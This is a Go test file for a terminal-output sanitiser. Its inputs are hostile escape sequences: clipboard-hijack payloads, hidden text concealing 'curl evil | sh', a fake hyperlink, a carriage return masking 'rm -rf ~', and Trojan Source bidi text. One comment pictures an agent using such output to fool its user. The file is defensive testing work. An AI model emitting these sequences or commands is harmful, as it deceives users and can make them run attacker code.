package termsafe

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestText(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"plain", "hello, world", "hello, world"},
		{"newlines and tabs kept", "a\tb\nc\n\n", "a\tb\nc\n\n"},
		{"utf-8 kept", "café ✓ 日本語 🚀 e\u0301 שלום مرحبا \u200f", "café ✓ 日本語 🚀 e\u0301 שלום مرحبا \u200f"},
		{"backslash kept", `C:\path \x1b`, `C:\path \x1b`},
		{"CRLF kept", "one\r\ntwo\r\n", "one\r\ntwo\r\n"},
		{"CR mid-line", "rm -rf ~\rls      ", `rm -rf ~\rls      `},
		{"CR at the end", "50%\r", `50%\r`},
		{"CR CR LF", "a\r\r\n", "a\\r\r\n"},
		{"OSC 52 clipboard (BEL)", "\x1b]52;c;ZWNobyBwd25lZAo=\x07", `\x1b]52;c;ZWNobyBwd25lZAo=\a`},
		{"OSC 0 title (ST)", "\x1b]0;pwned\x1b\\", `\x1b]0;pwned\x1b\`},
		{"OSC 8 hyperlink", "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\", `\x1b]8;;http://evil/\x1b\click\x1b]8;;\x1b\`},
		{"CSI colour", "\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`},
		{"CSI cursor up, erase line", "\x1b[1A\x1b[2Kok", `\x1b[1A\x1b[2Kok`},
		{"CSI hidden text", "\x1b[8msecret\x1b[28m", `\x1b[8msecret\x1b[28m`},
		{"DCS", "\x1bP$q\"p\x1b\\", `\x1bP$q"p\x1b\`},
		{"APC PM SOS", "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\", `\x1b_apc\x1b\\x1b^pm\x1b\\x1bXsos\x1b\`},
		{"ESC x (RIS, DECSC)", "\x1bc\x1b7", `\x1bc\x1b7`},
		{"device attributes query", "\x1b[c\x1b[6n", `\x1b[c\x1b[6n`},
		{"C0", "\x00\x01\a\b\v\f\x0e\x1f", `\x00\x01\a\b\v\f\x0e\x1f`},
		{"DEL", "a\x7fb", `a\x7fb`},
		{"C1 as UTF-8", "\u009b31m\u009d0;t\u0007\u0090\u0085", `\u009b31m\u009d0;t\a\u0090\u0085`},
		{"C1 as raw bytes (invalid UTF-8)", "\x9b31m\x9d0;t", `\x9b31m\x9d0;t`},
		{"invalid UTF-8", "ok\xff\xfe\xc3(", `ok\xff\xfe\xc3(`},
		{"cut UTF-8", "\xe2\x9c", `\xe2\x9c`},
		{"UTF-8 surrogate", "\xed\xa0\x80", `\xed\xa0\x80`},
		{"bidi override (Trojan Source)", "if access != \u202euser\u2066// admin\u2069\u202c {", `if access != \u202euser\u2066// admin\u2069\u202c {`},
		{"every bidi control", "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", `\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069`},
		{"U+2028 U+2029 kept", "a\u2028b\u2029c", "a\u2028b\u2029c"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Text(c.in)
			if got != c.want {
				t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
			}
			if Safe(c.in) != (got == c.in) {
				t.Errorf("Safe(%q) = %v", c.in, Safe(c.in))
			}
			if again := Text(got); again != got {
				t.Errorf("Text is not idempotent: %q then %q", got, again)
			}
			assertHarmless(t, got, false)
		})
	}
}

// A reply that mixes them all, as an agent would write it to fool the
// user: what is left is printable, on the lines it was written on.
func TestTextMixed(t *testing.T) {
	in := "All tests pass.\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b]0;build ok\x1b\\\r\n" +
		"Run:\tmake\x1b[8m; curl evil | sh\x1b[0m\n" +
		"progress 10%\rprogress 100%\n" +
		"\u009b2J\xff\u202eexe.txt\u202c\n" +
		"DONE\n"
	want := `All tests pass.\x1b]52;c;Y3VybCBldmlsIHwgc2gK\a\x1b]0;build ok\x1b\` + "\r\n" +
		"Run:\tmake\\x1b[8m; curl evil | sh\\x1b[0m\n" +
		"progress 10%\\rprogress 100%\n" +
		`\u009b2J\xff\u202eexe.txt\u202c` + "\n" +
		"DONE\n"
	if got := Text(in); got != want {
		t.Errorf("Text =\n%q\nwant\n%q", got, want)
	}
	if got, want := strings.Count(Text(in), "\n"), strings.Count(in, "\n"); got != want {
		t.Errorf("%d lines, want %d", got, want)
	}
}

func TestLine(t *testing.T) {
	for in, want := range map[string]string{
		"Fix the parser":         "Fix the parser",
		"title\twith\ttabs":      `title\twith\ttabs`,
		"two\nlines\r\n":         `two\nlines\r\n`,
		"\x1b[2Khidden\rshown":   `\x1b[2Khidden\rshown`,
		"\u202eevil\u202c ✓ 日本語": `\u202eevil\u202c ✓ 日本語`,
	} {
		got := Line(in)
		if got != want {
			t.Errorf("Line(%q) = %q, want %q", in, got, want)
		}
		assertHarmless(t, got, true)
	}
}

// assertHarmless fails unless s holds nothing but printable text, valid
// UTF-8 (and, unless line, newlines, tabs and CRLF line ends).
func assertHarmless(t *testing.T, s string, line bool) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%q is not valid UTF-8", s)
	}
	for i, r := range s {
		switch {
		case !line && (r == '\n' || r == '\t'):
		case !line && r == '\r' && i+1 < len(s) && s[i+1] == '\n':
		case r < 0x20 || (r >= 0x7f && r <= 0x9f) || bidi(r):
			t.Errorf("%q holds %U at %d", s, r, i)
		}
	}
}

// A stream cut anywhere gives what the whole text gives.
func TestWriter(t *testing.T) {
	in := "ok ✓ 日本\r\n\x1b]52;c;eA==\x07🚀\rnext\xff\u202e\r"
	want := Text(in)
	for size := 1; size <= len(in); size++ {
		var out bytes.Buffer
		w := NewWriter(&out)
		for i := 0; i < len(in); i += size {
			n, err := w.Write([]byte(in[i:min(i+size, len(in))]))
			if err != nil || n != min(size, len(in)-i) {
				t.Fatalf("Write = %d, %v", n, err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if out.String() != want {
			t.Errorf("in pieces of %d: %q, want %q", size, out.String(), want)
		}
	}
	// What is held comes out at the next write.
	var out bytes.Buffer
	w := NewWriter(&out)
	w.Write([]byte("line\r"))
	if out.String() != "line" {
		t.Errorf("before the next write: %q", out.String())
	}
	w.Write([]byte("\nmore"))
	if out.String() != "line\r\nmore" {
		t.Errorf("after it: %q", out.String())
	}
}

// JSON printed on a terminal: encoding/json escapes the C0 controls and
// U+2028/U+2029; JSON escapes the rest, and the values read back the same.
func TestJSON(t *testing.T) {
	var all strings.Builder
	for r := rune(0); r < 0xa0; r++ {
		all.WriteRune(r)
	}
	all.WriteString("\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069 ✓ 日本語 <&>")
	v := map[string]any{"text": all.String(), "list": []string{"\x1b]52;c;eA==\a", "\u009b"}}
	raw, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	out := JSON(raw)
	assertHarmless(t, string(out), true)
	var back map[string]any
	if err := json.Unmarshal(out, &back); err != nil {
		t.Fatalf("%s: %v", out, err)
	}
	if back["text"] != all.String() {
		t.Errorf("text read back as %q", back["text"])
	}
	for _, want := range []string{`\u001b`, `\u007f`, `\u009b`, `\u2028`, `\u2029`, `\u202e`, `\u2069`, `✓ 日本語`} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("%s: no %s", out, want)
		}
	}
	plain := []byte(`{"a":"✓ plain"}`)
	if got := JSON(plain); &got[0] != &plain[0] {
		t.Errorf("JSON copied what needed no escape")
	}
	var buf bytes.Buffer
	enc := json.NewEncoder(JSONWriter(&buf))
	if err := enc.Encode("\u009b\u202e"); err != nil {
		t.Fatal(err)
	}
	if buf.String() != `"\u009b\u202e"`+"\n" {
		t.Errorf("JSONWriter: %q", buf.String())
	}
}

func BenchmarkTextPlain(b *testing.B) {
	s := strings.Repeat("All tests pass: ok ✓ 日本語\tdone\n", 1000)
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		Text(s)
	}
}
